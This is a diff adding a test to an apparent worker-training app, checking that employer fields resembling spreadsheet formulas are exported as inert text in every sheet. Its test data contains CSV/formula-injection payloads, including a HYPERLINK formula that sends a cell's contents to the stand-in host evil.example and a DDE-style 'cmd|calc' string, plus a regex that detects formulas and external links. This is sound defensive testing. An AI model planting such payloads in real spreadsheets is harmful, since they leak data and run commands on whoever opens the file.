@@ -2,11 +2,13 @@
 import ExcelJS from 'exceljs';
 import { enrol } from '../../lib/classes/enrol';
 import { readLessons } from '../../lib/classes/read';
+import { registerByOffice } from '../../lib/people/register-by-office';
 import { dayOf } from '../../lib/platform/clock';
 import { isRefusal } from '../../lib/platform/refusal';
 import { exportSheet, type SheetFile } from '../../lib/sheets/export';
 import { signOffLayouts } from '../../lib/sheets/layouts/sign-off';
 import { writeSheet } from '../../lib/sheets/write-sheet';
+import { openZip } from '../../lib/sheets/zip';
 import { keys } from '../../lib/store/keys';
 import { memoryTable } from '../../lib/store/memory';
 import { must, newWorker, openClass } from '../support/town';
@@ -112,6 +114,36 @@ it('what begins like a formula goes out as the text it is', async () => {
   expect(cells.map((cell) => [cell.type, cell.value, cell.numFmt])).toEqual(
     ['=A1', ...nasty].map((one) => [ExcelJS.ValueType.String, one, '@']),
   );
+});
+
+it('a worker’s employer that begins like a formula is inert in every sheet an officer opens', async () => {
+  const home = await openClass(world, { capacity: 10 });
+  const nasty = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|calc', '-2+3', '@SUM(A1:A9)'];
+  for (const [i, employer] of nasty.entries()) {
+    const registered = await must(world, () =>
+      registerByOffice(world, {
+        ...{ name: '王小妹', id_number: syntheticIdNumber(510 + i), phone: `1380000051${i}`, employer },
+        ...{ site_region: '652302', site_text: employer, groups: ['=A1'], by: 'officer-1' },
+        consent: { version: '1', at: '2025-07-10T10:00:00+08:00', basis: 'paper' },
+      }),
+    );
+    const { worker } = registered;
+    await must(world, () => enrol(world, { class_id: home.class_id, worker, by: 'chat' }));
+  }
+  for (const name of ['roster', 'attendance', 'sign-off', 'scores'] as const) {
+    const file = (await exportSheet(world, home.class_id, name)) as SheetFile;
+    const zip = openZip(Buffer.from(file.bytes));
+    for (const part of zip.names.filter((one) => one.endsWith('.xml') || one.endsWith('.rels'))) {
+      const xml = zip.read(part)!.toString();
+      expect([part, /<f[ >]|<hyperlink|externalLink|ddeLink/.exec(xml)?.[0]]).toEqual([part, undefined]);
+    }
+  }
+  const cells = all(await opened(await exportSheet(world, home.class_id, 'roster')));
+  for (const employer of nasty)
+    expect(cells.find((cell) => cell.value === employer)).toMatchObject({
+      type: ExcelJS.ValueType.String,
+      numFmt: '@',
+    });
 });
 
 it('each day of lessons has its cells to sign, and no day is torn in two', async () => {
